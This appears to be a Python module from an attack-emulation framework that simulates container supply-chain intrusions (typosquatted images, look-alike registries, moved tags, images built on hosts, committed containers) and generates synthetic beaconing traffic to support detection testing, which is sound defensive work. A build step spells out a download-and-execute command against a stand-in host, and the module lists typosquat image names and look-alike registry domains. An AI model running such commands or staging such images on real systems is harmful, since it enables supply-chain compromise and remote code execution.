# ruff: noqa: E501 -- tables and wire forms stay in rows

"""Images from where they should not come: unknown registries, unknown publishers, moved tags, builds and commits on hosts."""

import numpy as np

from service.emulation.estate.engine import Container, Spec
from service.emulation.estate.ids import digest, engine_name, hex_id
from service.emulation.estate.strike import TOOLS, Strike, candidates
from service.emulation.estate.wire import Shape
from service.emulation.estate.world import HOUR, MINUTE, Service, World

_TYPOS = (
    "ngnix/nginx-alpine",
    "pyhton/python-slim",
    "radis/redis",
    "postgers/postgres",
    "alpin/alpine",
    "tomcta/tomcat",
    "hapoxy/haproxy",
)
_LOOKALIKES = (
    "registry.c0rp.example",
    "hub-miror.corp.example",
    "reg1stry.corp.example",
    "registry-corp.example",
    "hub-mirror.corp-cdn.example",
)


def unknown_registry(world: World, now: float, strong: bool) -> None:
    """I01: a look-alike image from a registry never seen, run under a name that sounds like the platform's."""
    strike = Strike(world, now, strong)
    host, name = strike.host(), strike.hiding_name()
    registry = (
        f"{world.outside.word()}-{world.outside.word()}.example:5000" if strong else str(world.pick(list(_LOOKALIKES)))
    )
    image = f"{registry}/{world.pick(list(_TYPOS)) if strong else 'platform/backup'}:latest"
    world.pull(host, image, now)
    delay = 2.0 if strong else float(strike.rng.uniform(2, 4)) * HOUR
    lasting = delay + (4 if strong else 8) * HOUR
    world.at(
        now + delay,
        _run_and_call,
        strike,
        host,
        Spec(
            image,
            name,
            command=["/entry.sh"],
            settings={"RestartPolicy": {"Name": "always", "MaximumRetryCount": 0}} if strong else {},
        ),
        lasting - delay,
    )
    strike.record(
        "I01",
        "T1204.003 T1610 T1036.005",
        candidates(host, name, image),
        lasting,
        f"pull {image}, run as {name}, call home",
        "pulls network config",
        host=host,
    )


def _run_and_call(world: World, now: float, strike: Strike, host: str, spec: Spec, lasting: float) -> None:
    container = strike.foothold(host, spec, now)
    site = world.outside.stranger(plausible=not strike.strong, port=80 if strike.strong else 443)
    period, jitter = (60.0, 0.2) if strike.strong else (900.0, 0.35)
    ts = np.concatenate(
        [[container.started + 0.8], strike.beacon_times(container.started + 1, lasting, period, jitter)]
    )
    strike.call_home(ts, container.address, site, TOOLS["curl" if strike.strong else "go"], uri="/s/check.php")


def unknown_publisher(world: World, now: float, strong: bool) -> None:
    """I02: a known public registry, a publisher nobody here has used."""
    strike = Strike(world, now, strong)
    host, name = strike.host(), engine_name(strike.rng)
    image = f"{world.outside.word()}{strike.rng.integers(10, 999)}/{world.pick(['alpine2', 'xmr', 'app', 'ubuntu-tools', 'sysproxy'])}:latest"
    world.pull(host, image, now)
    lasting = (3 if strong else 6) * HOUR
    command = ["sh", "-c", "/opt/start.sh"] if strong else ["/usr/sbin/crond", "-f"]
    container = strike.foothold(host, Spec(image, name, command=command), now + 3)
    if strong:
        names, addresses = world.outside.fresh_domains(240)
        ts = np.sort(container.started + strike.rng.uniform(5, lasting, 240))
        world.wire.tls(
            ts,
            container.address,
            addresses,
            443,
            sizes=Shape(9_000, 9_500, 4, 0.9).draw(strike.rng, 240),
            who=TOOLS["go"],
            name=names,
        )
    else:
        strike.call_home(
            strike.beacon_times(container.started + 2, lasting, 600, 0.4),
            container.address,
            world.outside.stranger(plausible=True),
            TOOLS["go"],
        )
    strike.record(
        "I02",
        "T1204.003 T1496.002",
        candidates(host, name, image),
        lasting,
        f"unknown publisher {image}",
        "pulls network",
        host=host,
    )


def moved_tag(world: World, now: float, strong: bool) -> None:
    """I03: other content under an existing tag, recreated from it; then traffic from a service whose code did not change."""
    strike = Strike(world, now, strong)
    service = strike.victim("worker", "api", replicated=not strong, lasting=6 * HOUR)
    host = service.containers[0].host
    engine = world.engines[host]
    if strong:
        image = digest(strike.rng)
        engine.emit("image", "tag", image, {"name": service.image}, now)
        engine.image_event("push", service.image, now + 4)
    address, agent = (engine.address, world.registry.engine_agent) if strong else ("10.8.0.77", "skopeo/1.13.3")
    world.new_tag(service.repository, service.tag, now + 4, address=address, agent=agent)
    begin = now + (5 if strong else 45) * MINUTE
    for index, container in enumerate(list(service.containers)[: None if strong else 1]):
        world.at(begin + 20 * index, _recreate, strike, service, container, index)
    strike.record(
        "I03",
        "T1525 T1195.002",
        [service.workload, f"host:{host}", f"ip:{address}"],
        6 * HOUR,
        f"new digest under {service.image} pushed by {agent.split()[0]}",
        "pulls config network",
        host=host,
    )


def _recreate(world: World, now: float, strike: Strike, service: Service, container: Container, index: int) -> None:
    if container not in service.containers:
        return
    world.pull(container.host, service.image, now - 8)
    world.retire(service, container, now)
    command = ["/app/.init", *service.template.command] if strike.strong else service.template.command
    fresh = world.launch(service, index, now + 2, spec=service.template.but(command=command))
    site = world.outside.stranger(plausible=True)
    period = 120.0 if strike.strong else 1500.0
    who = TOOLS["go"] if strike.strong else service.client
    strike.call_home(strike.beacon_times(fresh.started + 20, 5 * HOUR, period, 0.3), fresh.address, site, who)


def built_on_host(world: World, now: float, strong: bool) -> None:
    """I05: an image built on a production host from an approved base, then run; it was never pulled."""
    strike = Strike(world, now, strong)
    host = strike.host()
    engine, tag = world.engines[host], f"local/{world.outside.word()}:{strike.rng.integers(1, 9)}"
    done, made = engine.build(
        tag,
        "hub-mirror.corp.example/library/debian:12",
        ["apt-get update", "curl -o /opt/a http://x/a", "chmod +x /opt/a"][: 3 if strong else 1],
        now,
        network="bridge",
    )
    site = world.outside.stranger(plausible=not strong, port=80)
    if strong:
        strike.call_home(
            np.array([made[1].started + 0.4]),
            made[1].address,
            site,
            TOOLS["curl"],
            sizes=(300, 4_200_000, 3.0),
            uri="/a",
        )
    name = strike.hiding_name()
    container = strike.foothold(host, Spec(tag, name, command=["/opt/a"]), done + 4)
    strike.call_home(
        strike.beacon_times(container.started + 1, 3 * HOUR, 180 if strong else 700, 0.3),
        container.address,
        world.outside.stranger(plausible=not strong),
        TOOLS["go"],
    )
    where = [
        *candidates(host, name, tag),
        *(
            f"docker:{host}/image:{reference}"
            for reference in ("build", "library/debian", "hub-mirror.corp.example/library/debian")
        ),
    ]
    strike.record(
        "I05",
        "T1612 T1105 T1610",
        where,
        3 * HOUR,
        f"legacy build of {tag} on {host}, run",
        "pulls network config",
        host=host,
    )


def committed(world: World, now: float, strong: bool) -> None:
    """I07: a live container committed to the tag that the next start will use."""
    strike = Strike(world, now, strong)
    service = strike.victim("web", "api", "admin", lasting=4 * HOUR)
    container = service.containers[0]
    engine, image = world.engines[container.host], digest(strike.rng)
    reference = service.image if strong else f"{service.repository}:{service.tag}-hotfix"
    if strong:
        engine.of(container, "extract-to-dir", now - 20)
    engine.of(container, "pause", now)
    engine.emit("image", "tag", image, {"name": reference}, now + 0.06)
    engine.of(container, "commit", now + 0.06, comment="", imageID=image, imageRef=reference)
    engine.of(container, "unpause", now + 0.07)
    engine.local[reference] = image
    world.at(now + 90, _restart_from_commit, strike, service, container, reference)
    strike.record(
        "I07",
        "T1525 T1610",
        [service.workload],
        4 * HOUR,
        f"commit to {reference}, recreated from it",
        "pulls config network",
        host=container.host,
    )


def _restart_from_commit(
    world: World, now: float, strike: Strike, service: Service, container: Container, reference: str
) -> None:
    if container not in service.containers:
        return
    world.retire(service, container, now)
    engine = world.engines[container.host]
    labels = {**container.spec.labels, "com.docker.compose.config-hash": hex_id(world.rng)}
    fresh = engine.run(container.spec.but(image=reference, labels=labels), now + 2)
    service.containers.insert(0, fresh)
    if fresh.lease:
        service.leases.append(fresh.lease)
    if strike.strong:
        strike.call_home(
            strike.beacon_times(fresh.started + 5, 3 * HOUR, 300, 0.3),
            fresh.address,
            world.outside.stranger(),
            TOOLS["python"],
        )
